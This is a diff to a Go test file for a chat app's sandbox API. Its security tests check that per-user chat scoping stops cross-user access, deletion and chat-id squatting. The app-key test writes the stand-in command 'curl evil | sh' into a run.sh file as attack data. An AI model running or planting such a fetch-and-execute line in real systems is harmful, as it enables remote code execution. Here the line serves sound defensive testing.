@@ -8,6 +8,7 @@ package web_test
 import (
 	"context"
 	"net/http"
+	"net/url"
 	"strings"
 	"testing"
 
@@ -114,6 +115,58 @@ func TestAttackChatIDPreDelete(t *testing.T) {
 	expect(t, alice, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"report-2026"}}, 202)
 }
 
+// TestAttackChatIDSquat (finding 10): chat ids were global, so whoever
+// used an id first owned it everywhere: mallory's upload under an app of
+// her own took "report-2026", and alice's chat of that id in the demo app
+// answered 404; in a public app, mallory's first turn under an id kept
+// everyone else out of it. Chat ids are now scoped per app and user: each
+// user's "report-2026" is a chat of their own, in history, files,
+// sandbox, approvals and deletion alike, and deleting one leaves the other.
+func TestAttackChatIDSquat(t *testing.T) {
+	t.Parallel()
+	env := servertest.Start(t, servertest.Options{})
+	env.CreateUser(t, "alice", auth.RoleUser)
+	env.CreateUser(t, "mallory", auth.RoleUser)
+	alice := env.Login(t, "alice", servertest.Password("alice"))
+	mallory := env.Login(t, "mallory", servertest.Password("mallory"))
+	own := newApp(t, mallory, "squatter")
+
+	// Another app: mallory's upload takes nothing from alice.
+	if r := upload(t, mallory, "/api/uploads/report-2026?appId="+own, part{"squat.txt", []byte("mallory-was-here")}); r.Status != http.StatusCreated {
+		t.Fatalf("mallory's upload to her own app: %d %s", r.Status, r.Body)
+	}
+	if got := shell(t, alice, apps.DemoAppID, "", "report-2026", "echo alice-report > r.txt && cat r.txt && ls /workspace/uploads"); !strings.Contains(got, "alice-report") || strings.Contains(got, "squat.txt") {
+		t.Fatalf("alice's chat report-2026 after mallory's upload elsewhere: %q", got)
+	}
+
+	// The same public app: mallory's first turn under an id keeps alice
+	// out of nothing, and neither sees the other's files or turns.
+	if got := shell(t, mallory, apps.DemoAppID, "", "shared-id", "echo mallory-secret > m.txt && cat m.txt"); !strings.Contains(got, "mallory-secret") {
+		t.Fatalf("mallory's chat: %q", got)
+	}
+	if got := shell(t, alice, apps.DemoAppID, "", "shared-id", "echo alice-secret > a.txt; ls"); !strings.Contains(got, "a.txt") || strings.Contains(got, "m.txt") {
+		t.Fatalf("alice's chat shared-id: %q, want her own workspace", got)
+	}
+	resp := expect(t, alice, "GET", "/api/apps/"+apps.DemoAppID+"/chats/shared-id", nil, 200)
+	if body := string(resp.Body); strings.Contains(body, "mallory") || !strings.Contains(body, "alice-secret") {
+		t.Errorf("alice's history of shared-id: %s", clip(resp.Body))
+	}
+	files := expect(t, mallory, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "list", "appId": apps.DemoAppID, "chatId": "shared-id", "path": "/workspace"}, 200)
+	if body := string(files.Body); !strings.Contains(body, "m.txt") || strings.Contains(body, "a.txt") {
+		t.Errorf("mallory's files of shared-id: %s", files.Body)
+	}
+
+	// Deleting her own shared-id leaves alice's, files and sandbox.
+	expect(t, mallory, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"shared-id"}}, 202)
+	if got := shell(t, alice, apps.DemoAppID, "", "shared-id", "cat a.txt"); !strings.Contains(got, "alice-secret") {
+		t.Errorf("alice's chat after mallory deleted hers of the same id: %q", got)
+	}
+	// Naming alice's chat by her user gets mallory nothing.
+	expect(t, mallory, "GET", "/api/apps/"+apps.DemoAppID+"/chats/shared-id?userId=u:alice", nil, 404)
+	expect(t, mallory, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "read", "appId": apps.DemoAppID, "chatId": "shared-id", "userId": "u:alice", "path": "a.txt"}, 404)
+	expect(t, mallory, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"shared-id"}, "userId": "u:alice"}, 404)
+}
+
 // TestAttackAppKeyReachesAccountChats (finding 7): alice's key on her
 // public app wrote run.sh into carol's chat, uploaded into it and deleted
 // another of carol's chats, and still worked once an admin disabled alice.
@@ -136,13 +189,19 @@ func TestAttackAppKeyReachesAccountChats(t *testing.T) {
 	}
 	shell(t, carol, app, "", "carol-2", "true")
 
-	// The attack: write, upload, delete and list through the key.
-	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "write", "appId": app, "chatId": "carol-1", "path": "run.sh", "content": "curl evil | sh"}, 404)
-	if resp := upload(t, key, "/api/uploads/carol-1?appId="+app, part{"x.txt", []byte("planted")}); resp.Status != http.StatusNotFound {
+	// The attack: write, upload, delete and list through the key, naming
+	// carol's chats by their user. Without the user, the key names its
+	// own end user's chats of those ids (customUid "api"), never carol's.
+	carolID := chatOf(t, env, app, "carol-1").UserID
+	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "write", "appId": app, "chatId": "carol-1", "userId": carolID, "path": "run.sh", "content": "curl evil | sh"}, 404)
+	if resp := upload(t, key, "/api/uploads/carol-1?appId="+app+"&userId="+carolID, part{"x.txt", []byte("planted")}); resp.Status != http.StatusNotFound {
 		t.Errorf("upload into carol's chat with the app key: %d %s, want 404", resp.Status, resp.Body)
 	}
+	expect(t, key, "DELETE", "/api/apps/"+app+"/chats", map[string]any{"chatIds": []string{"carol-2"}, "userId": carolID}, 404)
 	expect(t, key, "DELETE", "/api/apps/"+app+"/chats", map[string]any{"chatIds": []string{"carol-2"}}, 404)
+	expect(t, key, "GET", "/api/apps/"+app+"/chats/carol-1?userId="+carolID, nil, 404)
 	expect(t, key, "GET", "/api/apps/"+app+"/chats/carol-1", nil, 404)
+	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "write", "appId": app, "chatId": "carol-1", "path": "run.sh", "content": "curl evil | sh"}, 200)
 	if resp := expect(t, key, "GET", "/api/apps/"+app+"/chats", nil, 200); strings.Contains(string(resp.Body), "carol-") {
 		t.Errorf("the app key lists carol's chats: %s", resp.Body)
 	}
@@ -157,10 +216,10 @@ func TestAttackAppKeyReachesAccountChats(t *testing.T) {
 	if got := shell(t, key, app, "user-7", "k-1", "echo mine > m.txt && cat m.txt"); !strings.Contains(got, "mine") {
 		t.Fatalf("the key's end user: %q", got)
 	}
-	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "read", "appId": app, "chatId": "k-1", "path": "m.txt"}, 200)
+	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "read", "appId": app, "chatId": "k-1", "customUid": "user-7", "path": "m.txt"}, 200)
 	v := visit(t, env, l.URL)
 	_, _ = sendTurn(t, v, l.URL+"/api/v1/chat/completions", map[string]any{"chatId": "v-1", "messages": message("$ echo visitor")}, 200)
-	expect(t, key, "GET", "/api/apps/"+app+"/chats/v-1", nil, 200)
+	expect(t, key, "GET", "/api/apps/"+app+"/chats/v-1?userId="+url.QueryEscape(chatOf(t, env, app, "v-1").UserID), nil, 200)
 
 	// Disabled, alice's key and link stop; enabled again, they work.
 	expect(t, admin, "POST", "/admin/api/users/u:alice/disable", nil, 200)
@@ -199,9 +258,11 @@ func TestAttackServiceKeyCustomUID(t *testing.T) {
 		{apps.DemoAppID, "u:alice", "alice-private"},
 		{app, "app:" + app + ":a", "key-user-chat"},
 	} {
+		// The chat is the service key's own user's (chat ids are scoped
+		// per app and user): a new, empty one, never the victim's.
 		body := map[string]any{"appId": tc.app, "chatId": tc.chat, "customUid": tc.uid, "messages": message("$ cat *.txt")}
-		if resp := svc.Do(t, "POST", completions, body); resp.Status != http.StatusNotFound || strings.Contains(string(resp.Body), "data") {
-			t.Errorf("service key as %s in %s: %d %s, want 404", tc.uid, tc.chat, resp.Status, clip(resp.Body))
+		if resp := svc.Do(t, "POST", completions, body); strings.Contains(string(resp.Body), "data") || !strings.Contains(string(resp.Body), "No such file") {
+			t.Errorf("service key as %s in %s: %d %s, want a chat of its own without the victim's files", tc.uid, tc.chat, resp.Status, clip(resp.Body))
 		}
 	}
 	// Its own users: a plain customUid as before, a prefixed one apart.
@@ -211,8 +272,8 @@ func TestAttackServiceKeyCustomUID(t *testing.T) {
 		if !strings.Contains(answer, "service-ok") {
 			t.Fatalf("the service key's user %s: %q", uid, answer)
 		}
-		if chat, err := env.Engine.Chats.Get(ctx, chatID); err != nil || chat.UserID != stored {
-			t.Errorf("customUid %s: chat %+v (%v), want user %s", uid, chat, err, stored)
+		if _, err := env.Engine.Chats.Get(ctx, sandbox.Scope{AppID: apps.DemoAppID, UserID: stored, ChatID: chatID}); err != nil {
+			t.Errorf("customUid %s: chat %s: %v, want it stored as user %s's", uid, chatID, err, stored)
 		}
 	}
 }
